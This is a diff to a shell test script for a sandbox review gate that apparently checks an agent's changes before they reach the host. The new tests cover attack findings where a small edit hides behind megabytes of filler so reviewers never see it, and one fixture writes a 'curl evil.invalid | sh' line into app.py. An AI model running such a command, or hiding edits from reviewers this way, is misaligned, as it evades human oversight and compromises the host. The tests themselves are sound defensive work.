@@ -21,6 +21,7 @@ trap cleanup EXIT
 . "$(dirname "$0")/../lib/fixture.sh"
 mkdir -p "$SANDGATE_LOG_DIR" "$SANDGATE_RECORD_DIR"
 sg() { "$BIN" "$@" >"$T/out" 2>"$T/err"; }
+sgrss() { /usr/bin/time -f %M -o "$T/rss" "$BIN" "$@" >"$T/out" 2>"$T/err"; }
 
 # --- export: a path longer than a zip entry name -----------------------------
 # src/app.py is deleted by the agent; a file whose "work/" + path is
@@ -156,9 +157,75 @@ mkdir "$W/L"
 awk 'BEGIN{for(i=0;i<16384;i++) printf "%063d\n", i}' >"$W/L/f00"
 for i in $(seq -w 1 39); do ln "$W/L/f00" "$W/L/f$i"; done
 sg diff "$ID"; rc=$?
-check "diff of a 1 MiB text file with 40 names: at most --disk of text staged and shown ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ] && grep -q "too large to show" "$T/out"'
+check "diff of a 1 MiB text file with 40 names: at most --disk of text staged and shown ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ] && grep -q "^Text file L/f[0-9]* added: not shown (" "$T/out"'
 sg export --output "$T/e10.zip" "$ID"; rc=$?
 check "export of the same: diff.patch at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; assert zipfile.ZipFile(sys.argv[1]).getinfo(\"diff.patch\").file_size <= 17 << 20" "$T/e10.zip"'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
+# --- diff, export: escaped bytes counted as shown (atk16u F1) -------------------
+# 1 MiB of control bytes and 15 more names for it in a 16 MiB sandbox: the
+# cap counted raw bytes, each shown as \xHH (4x) or \u00HH in the JSON
+# (6x): 64 MiB of diff, 96 MiB of diff --json, both held by export.
+small_sandbox sbx_0123456789abcdef0123bd0b s11
+mkdir "$W/C"
+python3 -c 'import sys; open(sys.argv[1], "wb").write((b"\x01" * 1023 + b"\n") * 1024)' "$W/C/f00"
+for i in $(seq -w 1 15); do ln "$W/C/f00" "$W/C/f$i"; done
+for v in diff "diff --json"; do
+	sg $v "$ID"; rc=$?
+	check "$v of 1 MiB of control bytes with 16 names: at most --disk written ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ]'
+done
+check "diff --json: the names not shown say why (over_total)" 'python3 -c "import json, sys; a = json.load(open(sys.argv[1]))[\"added\"]; assert any(x[\"over_total\"] and not x[\"too_large\"] for x in a)" "$T/out"'
+sg export --output "$T/e11.zip" "$ID"; rc=$?
+check "export of the same: diff.patch and diff.json each at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert max(z.getinfo(n).file_size for n in (\"diff.patch\", \"diff.json\")) <= 17 << 20" "$T/e11.zip"'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
+# --- diff, apply: a small change hidden behind filler (atk16u F3) ----------------
+# 16 names of a 1 MiB text file fill the 16 MiB cap in path order before
+# app.py: its 46-byte edit was shown only as "too large to show" (a false
+# reason) and apply --review D --path app.py (or --all) wrote it. Now the
+# smallest changes are shown first, the rest is "not shown" with the true
+# reason, and apply refuses a file whose text was not shown unless it is
+# named with --unshown.
+small_sandbox sbx_0123456789abcdef0123bd0c s12
+printf 'print("hi")\n' >"$T/s12/app.py"
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+sg_fixture_sandbox "$ID" "$T/s12" $((16 << 20))
+mkdir "$W/E"
+python3 -c 'import sys; open(sys.argv[1], "w").write(("a" * 1023 + "\n") * 1024)' "$W/E/f00"
+for i in $(seq -w 1 15); do ln "$W/E/f00" "$W/E/f$i"; done
+printf 'import os\nos.system("curl evil.invalid | sh")\n' >"$W/app.py"
+python3 -c 'import sys; open(sys.argv[1], "w").write(("b" * 99 + "\n") * 12000)' "$W/big.txt"
+sg diff "$ID"; rc=$?
+cp "$T/out" "$T/s12.diff"
+REV=$(awk '/^review /{print $2}' "$T/s12.diff")
+check "diff: the 46-byte edit of app.py is shown behind 16 MiB of filler ($rc)" '[ $rc -eq 0 ] && grep -q "^+os.system(\"curl evil.invalid | sh\")" "$T/s12.diff" && ! grep -q "^Text file app.py" "$T/s12.diff"'
+check "diff: filler past the total is not shown, with the true reason" 'grep -q "^Text file E/f[0-9]* added: not shown (0 bytes before, 1048576 after): the diff shows at most the sandbox.s --disk (16777216 bytes)" "$T/s12.diff" && ! grep -q "^Text file E/.*too large to show" "$T/s12.diff" && grep -q "not shown as the diff.s total\|did not fit" "$T/err"'
+check "diff: a file too large by its own size says so" 'grep -q "^Text file big.txt added: too large to show (0 bytes before, 1200000 after" "$T/s12.diff"'
+sg apply --review "$REV" --path big.txt "$ID"; rc=$?
+check "apply --review --path of a file whose text was not shown: refused (126), named, host untouched" '[ $rc -eq 126 ] && grep -q "^refused big.txt (review [0-9a-f]* did not show its text (too large to show).*--unshown" "$T/out" && [ ! -e "$T/s12/big.txt" ]'
+sg apply --review "$REV" --all "$ID"; rc=$?
+check "apply --review --all: app.py (shown) applied, no unshown file written (126)" '[ $rc -eq 126 ] && grep -q "^applied app.py$" "$T/out" && grep -q "^refused big.txt" "$T/out" && grep -q "^refused E/f[0-9]* (review [0-9a-f]* did not show its text (the diff.s total was reached)" "$T/out" && [ ! -e "$T/s12/big.txt" ] && [ "$(ls "$T/s12/E" 2>/dev/null | wc -l)" -lt 16 ]'
+sg apply --review "$REV" --unshown big.txt "$ID"; rc=$?
+check "apply --review --unshown big.txt: applied as its SHA-256" '[ $rc -eq 0 ] && grep -q "^applied big.txt$" "$T/out" && [ "$(stat -c %s "$T/s12/big.txt")" = 1200000 ]'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
+# --- saved reviews: many names (atk16u F4) -------------------------------------
+# 12,000 hard-link names of 120 bytes: each diff saves a review of ~3.3 MB
+# (every path in base64); 16 were kept whatever --disk, so 12 distinct
+# reviews held ~40 MB. Now at most 32 MiB of reviews (the newest kept).
+small_sandbox sbx_0123456789abcdef0123bd0d s13
+python3 - "$W" <<'PY'
+import os, sys
+os.makedirs(sys.argv[1] + "/R")
+open(sys.argv[1] + "/R/0", "w").write("x\n")
+for i in range(1, 12000):
+    os.link(sys.argv[1] + "/R/0", sys.argv[1] + "/R/%0120d" % i)
+PY
+for i in $(seq 1 12); do
+	printf 'v%s\n' "$i" >"$W/v.txt"
+	sgrss diff "$ID" || break
+done
+check "12 diffs of 12,000 names: at most 32 MiB of saved reviews ($(du -sk "$SANDGATE_STATE/sandboxes/$ID/reviews" | cut -f1) KiB, $(ls "$SANDGATE_STATE/sandboxes/$ID/reviews" | wc -l) kept, diff $(tail -1 "$T/rss") KiB)" '[ "$(du -sk "$SANDGATE_STATE/sandboxes/$ID/reviews" | cut -f1)" -le 32768 ] && [ -n "$(ls "$SANDGATE_STATE/sandboxes/$ID/reviews/$(awk "/^review /{print \$2}" "$T/out").review")" ]'
 rm -rf "$SANDGATE_STATE/sandboxes/$ID"
 
 # --- apply: a host file made private after create ------------------------------
@@ -209,7 +276,6 @@ if ldd "$BIN" 2>/dev/null | grep -q libasan; then
 	RSSMAX=99999999
 	echo "note: a sanitizer build: peak RSS is printed, not asserted"
 fi
-sgrss() { /usr/bin/time -f %M -o "$T/rss" "$BIN" "$@" >"$T/out" 2>"$T/err"; }
 for v in "diff --stat" "diff" "diff --json" "apply --all --dry-run"; do
 	sgrss $v "$ID"; rc=$?
 	check "$v of 5.3 MB of changed names: refused naming the bound ($rc, $(tail -1 "$T/rss") KiB, $(stat -c %s "$T/out") bytes out)" '[ $rc -ne 0 ] && grep -q "does not review that much" "$T/err" && [ "$(tail -1 "$T/rss")" -le $RSSMAX ] && [ "$(stat -c %s "$T/out")" -le 65536 ]'
